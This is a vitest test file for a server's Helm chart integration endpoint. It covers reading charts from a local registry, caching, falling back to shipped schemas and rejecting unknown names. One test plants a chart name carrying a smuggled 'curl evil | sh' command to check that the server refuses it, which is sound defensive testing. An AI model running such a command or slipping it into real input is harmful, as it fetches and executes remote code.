// Tests the definitions of Helm charts from a local registry and from the shipped copy.
import { expect, test } from "vitest";
import { startLocalServer } from "#tests/support/local-server.ts";
import { startTestServer } from "#tests/support/test-server.ts";
import { chartNames } from "../charts.ts";
import type { Chart } from "../contract.ts";

const registry = await startLocalServer();
const server = await startTestServer({ env: { ROLE: "web", CHART_REGISTRY_URL: `${registry.url}/charts/` } });
const cookie = await server.signIn();

async function chart(name: string): Promise<{ status: number; body: Chart }> {
  const answer = await server.fetch(`/api/integrations/charts/${name}`, { headers: { cookie } });
  return { status: answer.status, body: (await answer.json()) as Chart };
}

test("the server reads a chart from the registry, and then caches it", async () => {
  const files: Readonly<Record<string, string>> = {
    "/charts/kubernetes/Chart.yaml": "name: mission-control-kubernetes\nversion: 1.2.3\n",
    "/charts/kubernetes/values.schema.json": '{"type": "object", "properties": {"clusterName": {"type": "string"}}}',
  };
  registry.answer = ({ url = "" }, response) => {
    const file = files[url];
    response.writeHead(file === undefined ? 404 : 200).end(file);
  };
  for (let round = 0; round < 2; round += 1)
    expect(await chart("kubernetes")).toEqual({
      status: 200,
      body: {
        chart: "mission-control-kubernetes",
        version: "1.2.3",
        schema: { type: "object", properties: { clusterName: { type: "string" } } },
        source: "registry",
      },
    });
  expect(registry.requests.map(({ url }) => url).toSorted()).toEqual(Object.keys(files).toSorted());
});

test("if the registry sends an invalid response, the schemas that the product ships are used", async () => {
  const answers = ["", "[]", "name: [", "{}"];
  registry.answer = (_, response) => response.writeHead(200).end(answers[registry.requests.length % answers.length]);
  for (const name of chartNames.filter((one) => one !== "kubernetes")) {
    const { status, body } = await chart(name);
    expect([name, status, body.source]).toEqual([name, 200, "shipped"]);
    expect(body.chart).toMatch(/^mission-control/);
    expect(Object.keys(body.schema["properties"] as object).length).toBeGreaterThan(1);
  }
});

test("a chart definition whose name contains a shell command is refused", async () => {
  registry.answer = ({ url = "" }, response) =>
    response.writeHead(200).end(url.endsWith(".yaml") ? "name: 'x; curl evil | sh'\nversion: 1.2.3\n" : "{}");
  const other = await startTestServer({ env: { ROLE: "web", CHART_REGISTRY_URL: `${registry.url}/charts/` } });
  const answer = await other.fetch("/api/integrations/charts/aws", { headers: { cookie: await other.signIn() } });
  expect(await answer.json()).toMatchObject({ source: "shipped", chart: expect.stringMatching(/^mission-control/) });
});

test("the error for an unknown chart lists the names of the charts", async () => {
  const { status, body } = await chart("nomad");
  expect(status).toBe(400);
  expect(JSON.stringify(body)).toContain("must be aws, azure, prometheus, flux, kubernetes, mission-control");
});
